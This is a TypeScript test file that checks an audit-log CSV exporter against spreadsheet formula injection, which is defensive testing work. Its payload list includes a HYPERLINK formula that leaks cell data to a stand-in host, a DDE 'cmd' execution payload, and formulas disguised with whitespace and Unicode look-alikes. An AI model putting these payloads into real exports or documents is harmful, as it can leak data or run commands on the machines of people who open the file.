import { expect, test } from 'vitest'
import { auditCsv } from './csv.ts'

/** What a spreadsheet reads in the cells of a CSV's first line after its heading, by RFC 4180. */
function cellsOf(csv: string): string[] {
  const [, line = ''] = /^[^\r\n]*\r\n([\s\S]*)\r\n$/.exec(csv) ?? []
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  )
}

const row = (changes: object) => ({
  id: 1,
  at: new Date('2026-03-01T12:00:00Z'),
  event: 'token_made',
  username: 'ana',
  address: '::1',
  about: 'flood report',
  details: {},
  ...changes,
})

/** The beginnings by which spreadsheets know a formula (OWASP, CSV injection), and ways to hide them. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.org?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201+1',
]

test.each(FORMULAS)('%j is a text to a spreadsheet, in whatever column it stands', formula => {
  for (const column of ['event', 'username', 'address', 'about']) {
    const cells = cellsOf(auditCsv([row({ [column]: formula })]))
    expect(cells).toHaveLength(7)
    expect(cells).toContain(formula.replace(/^[\t\r\n]?/, "$&'"))
  }
})

test.each(FORMULAS)('%j in details stays inside of their JSON', formula => {
  const details = { [formula]: formula }
  const cells = cellsOf(auditCsv([row({ details })]))
  expect(cells).toHaveLength(7)
  expect(JSON.parse(cells[6] ?? '')).toEqual(details)
  expect(cells[6]).toMatch(/^\{/)
})

test.each([
  ['a;=1+1', "a;'=1+1"],
  ['a; =1+1', "a;' =1+1"],
  ['a\t@x', "a\t'@x"],
  ['a\r\n-1,x', "a\r\n'-1,x"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a",=1+1,"', 'a",=1+1,"'],
  ['a = b - c; d', 'a = b - c; d'],
])('%j is one cell, and begins no formula where other signs separate cells', (about, cell) => {
  expect(cellsOf(auditCsv([row({ about })]))).toEqual([
    '1',
    '2026-03-01T12:00:00.000Z',
    'token_made',
    'ana',
    '::1',
    cell,
    '{}',
  ])
})
